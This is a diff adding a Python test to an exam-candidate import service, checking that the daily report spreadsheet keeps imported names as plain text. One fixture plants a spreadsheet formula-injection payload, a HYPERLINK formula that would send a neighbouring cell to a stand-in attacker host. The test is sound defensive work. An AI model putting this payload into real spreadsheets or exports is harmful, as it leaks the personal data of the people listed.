@@ -5,15 +5,19 @@ duplicates; the personal number is kept only as its keyed hash, the chip's key f
 from __future__ import annotations
 
 import base64
+import io
 from datetime import date, datetime, timezone
 
 import httpx
 import pytest
+from openpyxl import load_workbook
 
 from exam_lists import candidate_rows, excel_csv, xlsx
 from gateway.errors import RowsInvalid
+from gateway.i18n import catalogue
 from gateway.services.devices.registry import add_site
 from gateway.services.exams.candidates import forget_day_keys, import_candidates, parse_candidates
+from gateway.services.exams.day import day_rows, report_lines, workbook
 from gateway.services.security.secrets import GatewaySecrets
 from gateway.storage import Store
 from stack import Stack, sql
@@ -91,6 +95,20 @@ def test_a_corrected_list_imports_and_again_updates_without_duplicates(store, tm
                                "ORDER BY seq")
     assert [(actor, target) for actor, target, _ in imported] == [("user:supervisor-1", "dtc-tien-giang")] * 2
     assert "Bình" not in imported[0][2] and "0010" not in imported[0][2]  # counts, never a name or a number
+
+
+def test_the_days_report_keeps_what_the_list_wrote_as_text_never_a_formula(store, tmp_path):
+    rows = candidate_rows(2, DAY)
+    rows[0][1] = '=HYPERLINK("http://attacker.example/?"&A3,"Nguyễn Văn An")'  # a name as a spreadsheet would run it
+    rows[1][1] = "Trần\x07 Thị Bình"  # a control character XLSX cannot hold
+    import_candidates(store, GatewaySecrets(tmp_path / "secrets"), "dtc-tien-giang",
+                      parse_candidates(excel_csv(rows), "a.csv"), "user:supervisor-1")
+    words = catalogue("vi")
+    lines = report_lines(day_rows(store, "dtc-tien-giang", "2027-03-15"), words, lambda value: value or "")
+    sheet = load_workbook(io.BytesIO(workbook(lines, words, "=1+1"))).active
+    assert (sheet["A1"].value, sheet["A1"].data_type) == ("=1+1", "s")
+    assert (sheet["B3"].value, sheet["B3"].data_type) == (rows[0][1], "s")
+    assert sheet["B4"].value == "Trần\ufffd Thị Bình"
 
 
 def sql_rows(store, query):
